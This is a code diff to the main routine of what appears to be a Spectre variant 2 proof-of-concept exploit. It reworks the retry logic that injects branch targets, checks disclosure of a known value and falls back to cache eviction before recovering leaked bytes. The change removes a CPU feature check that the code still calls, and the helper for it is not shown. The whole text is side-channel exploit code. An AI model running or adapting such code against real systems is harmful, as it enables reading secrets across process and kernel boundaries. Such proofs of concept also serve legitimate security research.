@@ -5,8 +5,6 @@
  */
 #include "spectre-v2.h"
 
-#include <cpuid.h>
-
 static const uint8_t *branches[MOST_ADDRESSES];
 static uint64_t disclosure;
 
@@ -28,37 +26,25 @@ static int read_byte(uint64_t address)
 	return call_with(address);
 }
 
-/*
- * Whether translations of several address spaces live side by side (PCID). Otherwise a kernel with page
- * tables of its own empties the translation buffers at each system call, and the last cache is too near
- * for the walks to the code, the secret and the probe.
- */
-static int keeps_translations(void)
-{
-	enum { PROCESSOR_INFORMATION = 1, PCID = 1 << 17 };
-	unsigned int eax, ebx, ecx, edx;
-
-	return __get_cpuid(PROCESSOR_INFORMATION, &eax, &ebx, &ecx, &edx) && ecx & PCID;
-}
-
 int main(int argc, char **argv)
 {
-	int known_was_read;
+	int times;
 
 	parse_options(argc, argv);
 	prepare_call();
 	catch_faults();
 	for (int i = 0; i < options.branches.count; i++)
 		branches[i] = place_branch(options.branches.at[i], INDIRECT_JUMP);
-	known_was_read = choose_disclosure(choose, read_byte, array + SHARED_KNOWN);
-	if (!known_was_read) {
+	times = choose_disclosure(choose, read_byte, array + SHARED_KNOWN, ATTEMPTS_WITH_KNOWN);
+	if (times < 2) {
 		forgets = 1;
-		known_was_read = choose_disclosure(choose, read_byte, array + SHARED_KNOWN);
+		times = choose_disclosure(choose, read_byte, array + SHARED_KNOWN, ATTEMPTS_WITH_KNOWN);
 	}
-	if (!known_was_read && !keeps_translations()) {
+	/* The last cache is too near for the walks to the code, the secret and the probe. */
+	if (times < 2 && !keeps_translations()) {
 		pages_to_evict = prepare_far_eviction();
-		known_was_read = choose_disclosure(choose, read_byte, array + SHARED_KNOWN);
+		times = choose_disclosure(choose, read_byte, array + SHARED_KNOWN, ATTEMPTS_WITH_KNOWN);
 	}
-	recover(sample, patience_if(known_was_read), 1);
+	recover(sample, patience_if(times), 1);
 	return 0;
 }
